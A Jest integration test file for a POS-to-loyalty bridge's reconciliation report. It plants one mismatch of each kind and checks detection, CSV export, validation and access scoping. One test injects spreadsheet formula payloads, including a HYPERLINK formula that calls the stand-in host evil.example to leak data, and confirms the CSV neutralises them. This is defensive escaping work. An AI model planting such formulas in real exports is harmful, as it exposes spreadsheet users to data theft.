/**
 * GET /v1/admin/reports/reconcile over HTTP, against the real bridge, its ledger (a file, and
 * PostgreSQL) and the loyalty simulator; the POS side is a listing the test controls. One
 * difference of each kind is planted the way it happens (a lost webhook, an operator's wrong
 * resolve, a booking outside the bridge, a reopened check, a refund never delivered) and each is
 * found exactly once; a clean range gives none; making the report changes nothing anywhere.
 */
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import type { ActiveMerchant } from '../../src/merchants/registry.js';
import { PosApiError } from '../../src/pos/api.js';
import type { PosEntry, PosOrderSource, PosSale } from '../../src/reconcile/pos-source.js';
import { ADMIN_TOKEN, checkout, startHarness, type Harness } from '../support/harness.js';
import { describeWithDatabase, freshSchema } from '../support/postgres.js';

const { url: pgBase } = await describeWithDatabase();
const STORES = [{ name: 'file' }, ...(pgBase ? [{ name: 'PostgreSQL' }] : [])];

/** The POS as the test says it stands: entries per merchant, listed by the window they changed in. */
class ScriptedPos implements PosOrderSource {
  readonly entries = new Map<string, PosEntry[]>();
  readonly calls: { merchantId: string; pos: string; since: string; until: string }[] = [];
  /** The next listing yields what it has, then fails with this. */
  failNext?: Error;

  add(merchantId: string, ...entries: PosEntry[]): void {
    this.entries.set(merchantId, [...(this.entries.get(merchantId) ?? []), ...entries]);
  }

  async *list(merchant: ActiveMerchant, pos: string, since: Date, until: Date): AsyncIterable<PosEntry> {
    this.calls.push({ merchantId: merchant.id, pos, since: since.toISOString(), until: until.toISOString() });
    for (const e of this.entries.get(merchant.id) ?? []) {
      const at = Date.parse(e.updatedAt);
      if (e.pos === pos && at >= since.getTime() && at < until.getTime()) yield e;
    }
    const failure = this.failNext;
    this.failNext = undefined;
    if (failure) throw failure;
  }
}

const now = () => new Date().toISOString();
const sale = (orderId: string, amountCents = 5997): PosSale => ({ kind: 'sale', pos: 'generic', orderId, transactionId: `generic:${orderId}`, paid: true, amountCents, updatedAt: now() });
const refund = (orderId: string, refundId: string): PosEntry => ({ kind: 'refund', pos: 'generic', orderId, transactionId: `generic:${orderId}`, refundId, updatedAt: now() });
const today = () => new Date().toISOString().slice(0, 10);
let phone = 0;
const customer = () => ({ phone: `+1555123${String(++phone).padStart(4, '0')}` });

describe.each(STORES)('the three-way report ($name store)', ({ name }) => {
  let h: Harness;
  let pos: ScriptedPos;
  let schema: { url: string; drop(): Promise<void> } | undefined;

  beforeAll(async () => {
    pos = new ScriptedPos();
    if (name === 'PostgreSQL') schema = await freshSchema(pgBase!, 'reconcile_report');
    h = await startHarness({
      env: schema ? { LEDGER_URL: schema.url } : {},
      overrides: { startWorker: false, posOrderSource: pos, posSettings: { generic: { apiBaseUrl: '', account: 'shop-1' } }, secretsKey: randomBytes(32).toString('base64') },
    });
  }, 30_000);
  afterAll(async () => {
    await h?.close();
    await schema?.drop();
  });

  const admin = (path: string, token = ADMIN_TOKEN) => request(h.bridge.url).get(path).set('authorization', `Bearer ${token}`);
  const post = (path: string, body: unknown) => request(h.bridge.url).post(path).set('content-type', 'application/json').send(JSON.stringify(body));
  const report = (query = `from=${today()}&to=${today()}`, token?: string) => admin(`/v1/admin/reports/reconcile?${query}`, token);

  it('a clean range: orders accrued, a refund reversed, all in the history: no difference', async () => {
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'A-1', customer: customer() }))).body.status).toBe('accrued');
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'B-1', customer: customer() }))).body.status).toBe('accrued');
    expect((await post('/v1/refunds/generic', { orderId: 'B-1', refundId: 'R-B' })).body.status).toBe('reversed');
    pos.add('default', sale('A-1'), sale('B-1'), refund('B-1', 'R-B'), { ...sale('U-1'), paid: false });
    const res = await report();
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ merchantId: 'default', examined: { pos: 4, ledger: 2, history: 3 }, sources: [{ pos: 'generic', read: true, entries: 4 }], complete: true, differences: [] });
    expect(res.body.history).toMatchObject({ settled: true });
  });

  it('one difference of each kind, each found exactly once; and the report changes nothing', async () => {
    // missing_in_ledger: a paid sale whose webhook never came.
    pos.add('default', sale('M-1'));
    // not_in_history: an accrue lost on the way (in doubt), then resolved by hand as accrued: wrongly.
    h.sim.faults.inject({ kind: 'drop_before_commit', on: 'accrue' });
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'N-1', customer: customer() }))).body.status).toBe('in_doubt');
    const resolved = await request(h.bridge.url).post('/v1/admin/transactions/generic:N-1/resolve').set('authorization', `Bearer ${ADMIN_TOKEN}`).send({ outcome: 'accrued', note: 'the cashier said so' });
    expect(resolved.body.status).toBe('accrued');
    pos.add('default', sale('N-1'));
    // unclaimed_operation: points booked at the loyalty service outside the bridge.
    const outside = await fetch(`${h.simServer.url}/api/v2/marketplace/accrue`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-app-token': h.sim.appToken },
      body: JSON.stringify({ transactionId: 'booked-by-hand', ...customer(), check: { amount: 1234, currency: 'USD', selections: [] } }),
    });
    const outsideOperation = ((await outside.json()) as { results: { operationId: number }[] }).results[0]!.operationId;
    // amount_mismatch: a check reopened at the POS after the bridge accrued it.
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'C-1', customer: customer() }))).body.status).toBe('accrued');
    pos.add('default', sale('C-1', 7997));
    // refund_not_reversed: a refund made at the POS whose webhook never came.
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'D-1', customer: customer() }))).body.status).toBe('accrued');
    pos.add('default', sale('D-1'), refund('D-1', 'R-D'));

    const before = { ledger: await h.bridge.store.list({ offset: 0, limit: 500 }), books: h.sim.books() };
    const res = await report();
    expect(res.status).toBe(200);
    expect(res.body.differences.map((d: { kind: string; transactionId?: string; operationId?: number }) => [d.kind, d.transactionId ?? d.operationId])).toEqual([
      ['missing_in_ledger', 'generic:M-1'],
      ['not_in_history', 'generic:N-1'],
      ['unclaimed_operation', outsideOperation],
      ['amount_mismatch', 'generic:C-1'],
      ['refund_not_reversed', 'generic:D-1'],
    ]);
    expect(res.body.counts).toEqual({ missing_in_ledger: 1, not_in_history: 1, in_doubt: 0, unclaimed_operation: 1, amount_mismatch: 1, refund_not_reversed: 1, pos_amount_differs: 0 });
    for (const d of res.body.differences) expect(d).toEqual({ kind: expect.any(String), why: expect.any(String), next: expect.any(String), ...(d.transactionId ? { transactionId: d.transactionId, orderId: expect.any(String) } : { operationId: d.operationId }) });
    expect(res.body.differences[0].next).toContain('POST /v1/admin/backfill');
    expect(res.body.differences[1].why).toContain('an operator resolved it as accrued');
    expect(res.body.differences[3].why).toContain('now totals 79.97 but the ledger recorded 59.97');

    // It reads only: every record as it was (same versions), the loyalty service's books as they were.
    expect(await h.bridge.store.list({ offset: 0, limit: 500 })).toEqual(before.ledger);
    expect(h.sim.books()).toEqual(before.books);

    // As CSV: the same differences, one line each, quoted where the text needs it.
    const csv = await report().set('accept', 'text/csv');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename=reconcile-default-${today()}-${new Date(Date.now() + 86_400_000).toISOString().slice(0, 10)}.csv`);
    const lines = csv.text.split('\r\n');
    expect(lines[0]).toBe('kind,transactionId,orderId,operationId,why,next');
    expect(lines).toHaveLength(1 + 5 + 1);
    expect(lines.at(-1)).toBe('');
    expect(lines[1]).toMatch(/^missing_in_ledger,"generic:M-1","M-1",,.*,"backfill: POST \/v1\/admin\/backfill \{""merchantId"":""default"",/);
    expect(lines[3]).toMatch(new RegExp(`^unclaimed_operation,,,${outsideOperation},`));
  });

  it("a reversal in doubt: its operation is kind in_doubt naming the record, as the record's evidence names it, never a double to take back by hand; settled, gone", async () => {
    const same = customer();
    const auth = { authorization: `Bearer ${ADMIN_TOKEN}` };
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'E-1', customer: same }))).body.status).toBe('accrued');
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'E-2', customer: same }))).body.status).toBe('accrued');
    expect((await post('/v1/refunds/generic', { orderId: 'E-1', refundId: 'R-E1' })).body.status).toBe('reversed');
    // The second reversal reaches the loyalty service; its answer is lost on the way back.
    h.sim.faults.inject({ kind: 'drop_after_commit', on: 'reverse' });
    expect((await post('/v1/refunds/generic', { orderId: 'E-2', refundId: 'R-E2' })).body.status).toBe('in_doubt');
    const ours = (differences: { transactionId?: string; operationId?: number }[], ops: number[]) => differences.filter((d) => ['generic:E-1', 'generic:E-2'].includes(d.transactionId ?? '') || ops.includes(d.operationId ?? -1));

    const evidence = (await request(h.bridge.url).get('/v1/admin/transactions/generic:E-2/evidence').set(auth)).body as { operations: { id: number; purchaseSum: number | null; claimedBy?: string; mayBeOf?: string[]; candidate: boolean }[] };
    const reversals = evidence.operations.filter((o) => o.purchaseSum === -59.97);
    expect(reversals).toHaveLength(2);
    const mine = reversals.find((o) => o.mayBeOf)!;
    expect(mine).toMatchObject({ mayBeOf: ['generic:E-2'] });
    const res = await report();
    const found = ours(res.body.differences, reversals.map((o) => o.id));
    // The report names the same owner the record page does, from the same rule.
    expect(found).toEqual([expect.objectContaining({ kind: 'in_doubt', transactionId: 'generic:E-2', operationId: mine.id, next: expect.stringMatching(/^settle the record first, never by taking points back by hand/) })]);
    expect(res.body.differences.filter((d: { kind: string }) => d.kind === 'unclaimed_operation').map((d: { operationId: number }) => d.operationId)).not.toContain(mine.id);

    // Settled as reversed by a person naming its operation: the difference is gone, and nothing else appears.
    const resolved = await request(h.bridge.url).post('/v1/admin/transactions/generic:E-2/resolve').set(auth).send({ outcome: 'reversed', operationId: mine.id, reason: 'the history shows it' });
    expect([resolved.status, resolved.body.status]).toEqual([200, 'reversed']);
    expect(ours((await report()).body.differences, reversals.map((o) => o.id))).toEqual([]);
  });

  it("as CSV over HTTP, a POS's values that would run as formulas are quoted and neutralised: at a cell's start, and after a ';' inside it", async () => {
    // A past day nothing else in this file touches: these three are its only differences.
    const at = '2025-06-01T12:00:00.000Z';
    const formula = '=HYPERLINK("http://evil.example/?leak","open")';
    pos.add(
      'default',
      { ...sale(formula, 1000), updatedAt: at },
      { ...sale('A-7;=1+2', 1000), updatedAt: at },
      { ...refund('B-8', 'R-8;@SUM(1)'), updatedAt: at },
    );
    const csv = await report('from=2025-06-01&to=2025-06-01').set('accept', 'text/csv');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = csv.text.split('\r\n');
    expect(lines).toHaveLength(1 + 3 + 1);
    expect(lines[0]).toBe('kind,transactionId,orderId,operationId,why,next');
    const next = '"backfill: POST /v1/admin/backfill {""merchantId"":""default"",""pos"":""generic"",""since"":""2025-06-01T12:00:00.000Z""} (or npm run backfill -- --merchant default --pos generic --since 2025-06-01T12:00:00.000Z)"';
    // A formula first: preceded by ', the cell quoted and its quotes doubled; the transactionId, where = does not begin a part, quoted only.
    expect(lines[1]).toBe(
      `missing_in_ledger,"generic:=HYPERLINK(""http://evil.example/?leak"",""open"")","'=HYPERLINK(""http://evil.example/?leak"",""open"")",,"a paid generic order of 10.00 (changed 2025-06-01T12:00:00.000Z) has no ledger record: its webhook never arrived or was not processed",${next}`,
    );
    // ';=' inside a cell: what a ';' locale would split off as its own cell begins with ' as well.
    expect(lines[2]).toBe(`missing_in_ledger,"generic:A-7;'=1+2","A-7;'=1+2",,"a paid generic order of 10.00 (changed 2025-06-01T12:00:00.000Z) has no ledger record: its webhook never arrived or was not processed",${next}`);
    // In the text the bridge writes around a POS's value (why) as well.
    expect(lines[3]).toBe(`missing_in_ledger,"generic:B-8","B-8",,"refund R-8;'@SUM(1) of generic order B-8 (changed 2025-06-01T12:00:00.000Z): the ledger has no record of the order or the refund",${next}`);
    expect(lines.at(-1)).toBe('');
    // Read as a ';' locale reads it (quotes ignored, split at every ';' and ','), no cell begins with a formula character.
    for (const line of lines) for (const cell of line.split(/[;,]/)) expect(cell.replace(/^[ "]+/, '')).not.toMatch(/^[=+\-@\t\r]/);
    // And the same report as JSON keeps the values as the POS gave them.
    const json = await report('from=2025-06-01&to=2025-06-01');
    expect(json.body.differences.map((d: { orderId: string }) => d.orderId)).toEqual([formula, 'A-7;=1+2', 'B-8']);
  });

  it('a POS that cannot be listed: named in sources, the report incomplete, and nothing of it half-compared', async () => {
    pos.failNext = new PosApiError('generic API GET /orders answered 429', true);
    const res = await report();
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ complete: false, sources: [{ pos: 'generic', read: false, why: 'listing failed: generic API GET /orders answered 429' }], examined: { pos: 0 } });
    // The ledger and the history are still compared with each other.
    expect(res.body.differences.map((d: { kind: string }) => d.kind)).toEqual(['not_in_history', 'unclaimed_operation']);
  });

  it('a range that holds none of it: nothing', async () => {
    const res = await report('from=2026-01-01&to=2026-01-31');
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-02-01T00:00:00.000Z', examined: { pos: 0, ledger: 0, history: 0 }, differences: [] });
  });

  it.each([
    ['from=2026-01-01', 'to', 'is required'],
    ['from=yesterday&to=2026-01-02', 'from', 'must be a day (2026-11-24) or a date-time with an offset'],
    ['from=2026-01-01T10:00:00&to=2026-01-02', 'from', 'must be a day'],
    ['from=2026-02-30&to=2026-03-02', 'from', 'must be a day'],
    ['from=2026-01-02&to=2026-01-01', 'to', 'must be after from'],
    ['from=2026-01-01&to=2026-03-01', 'to', 'the range may span at most 32 days, got 60'],
    ['from=2026-01-01&to=2026-01-02&merchantId=Not%20One', 'merchantId', 'must be a merchant id'],
    ['from=2026-01-01&to=2026-01-02&colour=red', '', 'unknown field "colour"'],
  ])('%s → 400 naming %s', async (query, field, message) => {
    const res = await report(query);
    expect(res.status).toBe(400);
    expect(res.body.error.issues[0]).toEqual({ field, message: expect.stringContaining(message) });
  });

  it('dates as timestamps with offsets: the range is exactly what was asked', async () => {
    const res = await report(`from=${encodeURIComponent('2026-01-01T10:00:00+02:00')}&to=${encodeURIComponent('2026-01-01T12:00:00Z')}`);
    expect(res.body).toMatchObject({ from: '2026-01-01T08:00:00.000Z', to: '2026-01-01T12:00:00.000Z' });
    expect(pos.calls.at(-1)).toEqual({ merchantId: 'default', pos: 'generic', since: '2026-01-01T08:00:00.000Z', until: '2026-01-01T12:00:00.000Z' });
  });

  it("a merchant's admin token sees its own report only; the global token names the merchant", async () => {
    const sim = h.sim.addMerchant({ id: 'corner', appToken: 'corner-app-token', apiKey: 'corner-api-key' });
    const created = await request(h.bridge.url).post('/v1/admin/merchants').set('authorization', `Bearer ${ADMIN_TOKEN}`).send({ id: 'corner', loyalty: { appToken: sim.appToken, apiKey: sim.apiKey } });
    expect(created.status).toBe(201);
    const own = await report(undefined, created.body.adminToken);
    expect(own.status).toBe(200);
    expect(own.body).toMatchObject({ merchantId: 'corner', examined: { pos: 0, ledger: 0, history: 0 }, sources: [], differences: [] });
    const other = await report(`from=${today()}&to=${today()}&merchantId=default`, created.body.adminToken);
    expect(other.status).toBe(404);
    expect((await report(`from=${today()}&to=${today()}&merchantId=corner`)).body.merchantId).toBe('corner');
    expect((await report(`from=${today()}&to=${today()}&merchantId=nobody`)).status).toBe(404);
    expect((await request(h.bridge.url).get(`/v1/admin/reports/reconcile?from=${today()}&to=${today()}`)).status).toBe(401);
  });

  it('a merchant without a loyalty API key: 422, its history cannot be read', async () => {
    const sim = h.sim.addMerchant({ id: 'keyless', appToken: 'keyless-app-token' });
    expect((await request(h.bridge.url).post('/v1/admin/merchants').set('authorization', `Bearer ${ADMIN_TOKEN}`).send({ id: 'keyless', loyalty: { appToken: sim.appToken } })).status).toBe(201);
    const res = await report(`from=${today()}&to=${today()}&merchantId=keyless`);
    expect(res.status).toBe(422);
    // It says what to do about it, for this merchant: give it an API key, then read the report again.
    expect(res.body.error).toMatchObject({ code: 'history_unavailable', message: expect.stringContaining('has no loyalty API key') });
    expect(res.body.error.message).toContain('give it one: PATCH /v1/admin/merchants/keyless with {"loyalty":{"apiKey":"…"}}');
    expect(res.body.error.message).toMatch(/then read the report again$/);
  });

  it('the history answering 429 past the back-off: 502, saying so, and nothing reported as if complete', async () => {
    h.sim.faults.inject({ kind: 'rate_limit', on: 'history', times: 5 });
    const res = await report();
    h.sim.faults.clear();
    expect(res.status).toBe(502);
    expect(res.body.error).toMatchObject({ code: 'history_unavailable', message: expect.stringContaining('answered 429, retries spent') });
  });
});

describe('a customer with a card per loyalty program (two templates)', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness({ simulator: { templateIds: [1, 2] }, overrides: { startWorker: false } });
  });
  afterAll(async () => {
    await h?.close();
  });

  it('one accrue makes an operation on each card, one reverse a reversing operation on each: no difference', async () => {
    const post = (path: string, body: unknown) => request(h.bridge.url).post(path).set('content-type', 'application/json').send(JSON.stringify(body));
    const accrued = await post('/v1/checkouts/generic', checkout({ orderId: 'TWO-1' }));
    expect(accrued.body.results).toHaveLength(2);
    expect((await post('/v1/checkouts/generic', checkout({ orderId: 'TWO-2', customer: { phone: '+15550004444' } }))).body.status).toBe('accrued');
    expect((await post('/v1/refunds/generic', { orderId: 'TWO-2', refundId: 'R-2' })).body.status).toBe('reversed');
    const res = await request(h.bridge.url).get(`/v1/admin/reports/reconcile?from=${today()}&to=${today()}`).set('authorization', `Bearer ${ADMIN_TOKEN}`);
    expect(res.body).toMatchObject({ examined: { ledger: 2, history: 6 }, differences: [], complete: true });
  });
});
